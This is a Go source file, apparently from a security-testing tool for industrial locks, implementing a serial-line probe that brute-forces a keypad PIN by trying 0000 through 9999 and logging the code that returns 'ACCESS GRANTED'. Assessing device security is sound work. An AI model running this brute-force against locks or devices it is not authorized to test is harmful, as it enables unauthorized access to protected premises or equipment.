package probe

import (
	"context"
	"errors"
	"fmt"
	"io"
	"strings"
	"time"

	"github.com/khanhnv2901/industrilock/internal/domain/finding"
	"github.com/khanhnv2901/industrilock/internal/domain/pin"
	consts "github.com/khanhnv2901/industrilock/internal/shared/constants"
	sharedErrors "github.com/khanhnv2901/industrilock/internal/shared/errors"
	"go.bug.st/serial"
	"go.uber.org/zap"
)

// PortOpener opens a serial line. Reads on the returned port must return
// (0, nil) when the read timeout elapses without data.
type PortOpener func(name string, baudRate int, readTimeout time.Duration) (io.ReadWriteCloser, error)

// OpenSerialPort opens name as an 8N1 line at baudRate.
func OpenSerialPort(name string, baudRate int, readTimeout time.Duration) (io.ReadWriteCloser, error) {
	port, err := serial.Open(name, &serial.Mode{
		BaudRate: baudRate,
		DataBits: 8,
		Parity:   serial.NoParity,
		StopBits: serial.OneStopBit,
	})
	if err != nil {
		return nil, fmt.Errorf("%w: %s: %v", sharedErrors.ErrPortOpen, name, err)
	}
	if err := port.SetReadTimeout(readTimeout); err != nil {
		_ = port.Close()
		return nil, fmt.Errorf("set read timeout on %s: %w", name, err)
	}
	return port, nil
}

// SerialPinProbe brute-forces the keypad PIN over a serial line.
type SerialPinProbe struct {
	Port        string
	BaudRate    int
	ReadTimeout time.Duration
	Delay       time.Duration
	Open        PortOpener
	Logger      *zap.SugaredLogger
}

// Name returns the probe identifier.
func (p *SerialPinProbe) Name() string {
	return "serial"
}

// Run tries 0000..9999 in order and stops at the first ACCESS GRANTED line.
func (p *SerialPinProbe) Run(ctx context.Context, sink *finding.Sink) {
	log := loggerOrNop(p.Logger)

	open := p.Open
	if open == nil {
		open = OpenSerialPort
	}
	baud := p.BaudRate
	if baud <= 0 {
		baud = consts.DefaultBaudRate
	}
	readTimeout := p.ReadTimeout
	if readTimeout <= 0 {
		readTimeout = consts.DefaultSerialReadTimeout
	}

	port, err := open(p.Port, baud, readTimeout)
	if err != nil {
		log.Errorf("Serial communication failed: %v", err)
		return
	}
	defer port.Close()

	log.Infof("Starting serial brute-force on %s", p.Port)

	pacer := NewPacer(p.Delay)
	tried, err := pin.Each(ctx, func(ctx context.Context, candidate string) (bool, error) {
		if err := pacer.Wait(ctx); err != nil {
			return false, err
		}
		granted, err := trySerialPIN(port, candidate)
		pacer.Done()
		if err != nil {
			return false, err
		}
		if granted {
			sink.Append(finding.SerialCracked(candidate))
			log.Infof("Serial PIN cracked: %s", candidate)
		}
		return granted, nil
	})
	if err != nil {
		log.Errorf("Serial communication failed after %d attempts: %v", tried, err)
		return
	}

	log.Infof("Serial brute-force on %s finished after %d attempts", p.Port, tried)
}

func trySerialPIN(port io.ReadWriter, candidate string) (bool, error) {
	if _, err := io.WriteString(port, candidate+"\n"); err != nil {
		return false, fmt.Errorf("%w: write: %v", sharedErrors.ErrTransport, err)
	}
	line, err := readLine(port)
	if err != nil {
		return false, fmt.Errorf("%w: read: %v", sharedErrors.ErrTransport, err)
	}
	return strings.Contains(line, consts.SerialSuccessMarker), nil
}

// readLine reads byte by byte until a newline or a read timeout. Reading one
// byte at a time keeps the next response on the wire instead of in a buffer.
func readLine(r io.Reader) (string, error) {
	var sb strings.Builder
	buf := make([]byte, 1)
	for {
		n, err := r.Read(buf)
		if n > 0 {
			if buf[0] == '\n' {
				return strings.TrimSpace(sb.String()), nil
			}
			sb.WriteByte(buf[0])
			continue
		}
		if err != nil {
			if errors.Is(err, io.EOF) && sb.Len() > 0 {
				return strings.TrimSpace(sb.String()), nil
			}
			return "", err
		}
		// timeout with no data
		return strings.TrimSpace(sb.String()), nil
	}
}
